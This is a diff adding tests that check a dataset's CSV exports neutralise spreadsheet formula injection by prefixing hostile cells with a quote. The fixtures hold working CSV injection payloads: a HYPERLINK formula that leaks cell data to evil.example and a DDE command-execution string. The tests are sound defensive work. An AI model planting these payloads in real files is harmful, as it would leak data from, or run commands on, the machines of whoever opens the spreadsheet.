@@ -18,7 +18,7 @@ import {
   exportSource,
 } from '../../src/lib/outputs/export.ts';
 import { jsonSchemaFor } from '../../src/lib/outputs/json-schema.ts';
-import { entries, paths, site, sources } from './dataset-fixture.ts';
+import { entries, measures, paths, site, sources } from './dataset-fixture.ts';
 
 const input = datasetInput(site, paths);
 const generated = new Date('2026-11-29T12:00:00Z');
@@ -234,5 +234,37 @@ describe('measuresCsvRows', () => {
     expect(parsed).toHaveLength(1);
     expect(parsed[0]?.['name']).toBe('Entity List listing, with a "quote", a comma');
     expect(parsed[0]?.['stages']).toBe('2019-10-07 announced 2019-10-07-us-entity-list; 2019-10-09 in-force 2019-10-07-us-entity-list');
+  });
+});
+
+describe('formula cells in the CSV downloads', () => {
+  // The probe's payloads (a title, a summary and a measure's short name a spreadsheet would run).
+  const [first, second] = entries;
+  const [measure] = measures;
+  const hostile = datasetInput(
+    {
+      ...site,
+      entries: [{ ...first!, data: { ...first!.data, title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")', summary: "+cmd|' /C calc'!A0" } }, second!],
+      measures: [{ ...measure!, data: { ...measure!.data, shortName: '=1+1', name: '@SUM(1+1)' } }],
+    },
+    paths,
+  );
+  const read = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[];
+
+  test('reach a spreadsheet as text: entries.csv and measures.csv read back with a leading quote', () => {
+    const [row] = read(formatCsv(entriesCsvRows(hostile), { bom: true }));
+    expect(row?.['title']).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")');
+    expect(row?.['summary']).toBe("'+cmd|' /C calc'!A0");
+    const [m] = read(formatCsv(measuresCsvRows(hostile), { bom: true }));
+    expect(m?.['shortName']).toBe("'=1+1");
+    expect(m?.['name']).toBe("'@SUM(1+1)");
+  });
+
+  test('are the only cells changed: every other cell reads back as it was, and none is a negative number', () => {
+    for (const rows of [entriesCsvRows(input), measuresCsvRows(input)]) {
+      const text = formatCsv(rows);
+      expect(parse(text, { record_delimiter: '\r\n' })).toEqual(rows);
+      expect(rows.flat().filter((cell) => /^\s*[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+    }
   });
 });
